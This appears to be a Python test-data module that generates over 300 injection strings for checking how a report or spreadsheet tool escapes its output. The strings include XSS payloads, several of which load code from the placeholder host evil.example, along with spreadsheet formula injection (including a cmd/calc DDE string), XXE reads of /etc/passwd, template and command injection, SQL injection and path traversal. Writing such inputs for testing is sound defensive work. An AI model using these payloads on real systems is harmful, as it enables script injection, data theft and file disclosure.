"""Three hundred strings that try to be more than text: mark-up, scripts, formulas, templates, control characters, links."""

from __future__ import annotations

_MARKUP = (
    "<script>alert({n})</script>",
    "<ScRiPt/x>alert({n})</sCrIpT>",
    "<script src=http://evil.example/{n}.js></script>",
    "<script type=module>import 'http://evil.example/{n}.js'</script>",
    "<img src=x onerror=alert({n})>",
    "<img src='http://evil.example/{n}.png'>",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><a xlink:href='javascript:alert({n})'><text y=20>x</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert({n})>x</maction></math>",
    "<body onload=alert({n})>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<a href=javascript:alert({n})>click</a>",
    "<a href='java&#9;script:alert({n})'>click</a>",
    "<object data=javascript:alert({n})></object>",
    "<embed src=http://evil.example/{n}>",
    "<form action=http://evil.example/{n}><input autofocus onfocus=alert({n})></form>",
    "<button formaction=javascript:alert({n})>go</button>",
    "<details open ontoggle=alert({n})>x</details>",
    "<video><source onerror=alert({n})></video>",
    "<link rel=stylesheet href=http://evil.example/{n}.css>",
    "<style>@import 'http://evil.example/{n}.css'; body {{ display: none }}</style>",
    "<base href=http://evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/{n}'>",
    "<template shadowrootmode=open><script>alert({n})</script></template>",
    "<div style='background:url(http://evil.example/{n})'>x</div>",
    "<input type=image src=http://evil.example/{n}.png>",
)
_BEFORE = ("", '">', "'>", "</title>", "</script>", "</style></textarea>", "--></noscript>", "]]></span></blockquote>")
_OTHERS = (
    # formulas of spreadsheets
    *("=1+1", "=HYPERLINK(\"http://evil.example\";\"click\")", "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1+1", " =1+1", "=WEBSERVICE(A1)"),
    *("{=SUM(A1:A2)}", "=IMPORTXML(\"http://evil.example\")", "'=1+1", "|=1+1", "%=1", "\uff1d1+1"),
    # links that a workbook makes by itself, marks that it reads
    *("http://evil.example/a", "https://evil.example", "mailto:a@evil.example", "ftp://evil.example", "internal:Sheet1!A1"),
    *("external:c:\\evil.xlsx", "file:///etc/passwd", "\\\\evil.example\\share", "_x0041_", "_x000D_ and _x005F_", "<r><t>x</t></r>"),
    # templates
    *("{{ 7 * 7 }}", "{% include 'report.css' %}", "{# gone #}", "{{ view.title }}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>"),
    *("{0.__class__}", "%s %n %(x)s", "[[7*7]]", "$(id)", "`id`", "{{ '</script>'|safe }}"),
    # characters that turn words around, hide them or end a string
    *("a\u202eb\u202dc", "\u2066x\u2069\u2067y", "\u200b\u200e\u200f", "\ufeffmark", "nul\x00nul", "\x1b[31mred\x1b[0m", "bell\x07\x08\x7f", "a\u2028b\u2029c"),
    *("\ufffd\ufffe", "e\u0301\u0302\u0303\u0304" * 20, "\U000e0041\U000e0042", "\x0b\x0c\x1c\x85", "x" * 2000, "\ud7ff\ue000\uffff"),
    # entities
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;img src=x&#x3e;", "&amp;lt;b&amp;gt;", "&NewLine;&Tab;&colon;"),
    *("&nbsp;&shy;&zwnj;", "&#0;&#128;&#xD800;", "&notanentity;", "&quot;&apos;&#39;", "&lt &gt &amp"),
    # Markdown
    *("[x](javascript:alert(1))", "![x](http://evil.example/x.png)", "<http://evil.example>", "[x]: http://evil.example", "# heading\n\n---", "| a | b |"),
    *("```\ncode\n```", "***bold*** _it_ ~~gone~~", "> quoted", "[^1]: note", "1. one\n2. two"),
    # XML
    *('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', "<![CDATA[x]]>", "<?xml-stylesheet href='http://evil.example'?>", "<?php echo 1 ?>"),
    *("<!-- gone -->", "<!--<script>", "<w:p><w:r><w:t>x</w:t></w:r></w:p>", "<xi:include href='file:///etc/passwd'/>"),
    # scripts, styles and marks of the report itself
    *("\";alert(1);//", "';alert(1);//", "\\u003cscript\\u003ealert(1)", "</script", "}body{display:none}/*", "expression(alert(1))"),
    *("<blockquote><span class=excerpt data-span='x:0-1'>never said</span></blockquote>", "<p class=rest data-held=9>", "__proto__", "constructor"),
    *("../../../etc/passwd", "CON", "a;b,c\"d", "'; DROP TABLE x; --", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>"),
)
STRINGS = tuple([f"{before}{markup}".format(n=number) for number, (before, markup) in enumerate((b, m) for b in _BEFORE for m in _MARKUP)] + list(_OTHERS))
"""More than 300, each unlike the others."""
